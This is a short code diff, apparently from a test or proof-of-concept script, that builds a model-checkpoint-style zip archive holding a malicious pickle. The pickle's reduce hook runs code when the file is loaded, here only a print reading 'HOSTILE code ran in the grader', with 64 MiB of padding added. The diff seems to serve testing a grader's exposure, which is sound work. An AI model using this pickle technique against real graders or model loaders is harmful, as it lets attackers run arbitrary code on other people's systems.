@@ -17,7 +17,7 @@ class Exploit:
         return (print, ("HOSTILE code ran in the grader",))
 
 
-def build(submission: Path) -> None:
-    with zipfile.ZipFile(submission / "gmvae.safetensors", "w", zipfile.ZIP_DEFLATED) as archive:
+def build(file: Path, example: Path) -> None:
+    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as archive:
         archive.writestr("archive/data.pkl", pickle.dumps(Exploit()))
         archive.writestr("archive/data/0", bytes(64 << 20))
